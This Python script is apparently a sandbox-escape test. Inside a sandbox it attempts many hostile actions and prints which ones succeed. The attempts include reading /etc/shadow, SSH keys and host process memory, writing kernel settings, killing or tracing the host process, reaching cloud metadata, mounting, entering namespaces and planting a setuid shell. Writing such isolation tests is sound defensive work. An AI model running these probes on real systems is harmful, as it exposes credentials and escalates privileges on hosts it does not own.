"""A hostile program for a sandbox: ``attacker.py HOST_PID PORT PRIVATE``. Prints what it could do that it must not."""

import contextlib
import ctypes
import glob
import json
import os
import signal
import socket
import subprocess
import sys
from pathlib import Path

host_pid, port, private = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
libc = ctypes.CDLL(None, use_errno=True)
done = []


def attack(name):
    def called(function):
        with contextlib.suppress(OSError, ValueError, subprocess.SubprocessError):
            if function() is not False:
                done.append(name)

    return called


def read(path):
    return os.listdir(path) if os.path.isdir(path) else Path(path).read_bytes()


for secret in (
    "/etc/shadow",
    private,
    os.path.expanduser("~root/.bashrc"),
    "/root/.ssh",
    "/home",
    "/var",
    "/run",
    "/sys/kernel",
):
    attack(f"reads {secret}")(lambda secret=secret: read(secret))
for folder in ("/", "/usr", "/etc", "/dev", "/bin", "/proc", sys.prefix, sys.base_prefix, "/proc/self"):
    attack(f"writes {folder}")(lambda folder=folder: Path(folder, "planted").touch())
for setting in (
    "/proc/sys/kernel/hostname",
    "/proc/sys/vm/overcommit_memory",
    "/proc/sys/kernel/core_pattern",
    "/proc/sysrq-trigger",
):
    attack(f"writes {setting}")(lambda setting=setting: Path(setting).write_text("1\n"))
attack("finds processes of the host")(lambda: len([name for name in os.listdir("/proc") if name.isdigit()]) > 6)
attack("signals the host")(lambda: os.kill(host_pid, signal.SIGKILL))
attack("sees the host's root by bubblewrap")(
    lambda: any(os.path.exists(f"/proc/1/{at}/root/.bashrc") for at in ("root", "cwd"))
)
for name in ("environ", "root/etc/shadow", "mem", "fd"):
    attack(f"reads {name} of the host's process")(lambda name=name: read(f"/proc/{host_pid}/{name}"))


@attack("finds a secret in an environment")
def secrets():
    found = b"".join(Path(path).read_bytes() for path in glob.glob("/proc/[0-9]*/environ") if os.access(path, os.R_OK))
    return b"MARK" in found or "MARK" in str(os.environ)


@attack("finds open files of the caller")
def descriptors():
    return any(int(fd) > 3 for fd in os.listdir("/proc/self/fd"))


for address in (("127.0.0.1", port), ("8.8.8.8", 53), ("169.254.169.254", 80)):
    attack(f"reaches {address}")(lambda address=address: socket.create_connection(address, timeout=2))
attack("sees interfaces")(lambda: [name for _, name in socket.if_nameindex() if name != "lo"] != [])
attack("makes a raw socket")(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attack("mounts")(lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"") == 0)
attack("remounts")(lambda: libc.mount(b"none", b"/", b"", 0x20 | 0x1000, b"") == 0)
attack("unmounts")(lambda: libc.umount2(b"/proc/sys", 2) == 0)
attack("makes a user namespace")(lambda: libc.unshare(0x10000000) == 0)
attack("enters a namespace")(lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0) == 0)
attack("becomes root")(lambda: os.setuid(0))
attack("has rights")(
    lambda: any(
        int(line.split()[1], 16)
        for line in Path("/proc/self/status").read_text().splitlines()
        if line.startswith("Cap")
    )
)
attack("changes its root")(lambda: os.chroot("/tmp"))
attack("makes a device")(lambda: os.mknod("/tmp/disk", 0o060600, os.makedev(8, 0)))
attack("raises a limit")(lambda: __import__("resource").setrlimit(7, (4096, 4096)))
attack("traces the host")(lambda: libc.ptrace(16, host_pid, 0, 0) == 0)
attack("keeps memory of no process")(lambda: os.memfd_create("x"))
attack("reads the kernel's keys")(
    lambda: libc.syscall({"x86_64": 250}.get(os.uname().machine, 219), 6, -3, 0, 0, 0) >= 0
)
attack("reads the kernel's log")(lambda: libc.klogctl(3, ctypes.create_string_buffer(9), 9) > 0)
attack("has a terminal")(lambda: os.close(os.open("/dev/tty", os.O_RDWR)))
attack("gets rights of a setuid program")(
    lambda: any(
        subprocess.run([each, "-c", "id"], capture_output=True, timeout=5, input=b"").returncode == 0
        for each in ("su", "sudo")
    )
)


@attack("gives itself a setuid program")
def setuid():
    Path("/tmp/mine").write_bytes(Path("/bin/sh").read_bytes())
    os.chmod("/tmp/mine", 0o6755)
    return "euid=0" in subprocess.run(["/tmp/mine", "-p", "-c", "id"], capture_output=True, text=True, timeout=5).stdout


print(json.dumps(done))
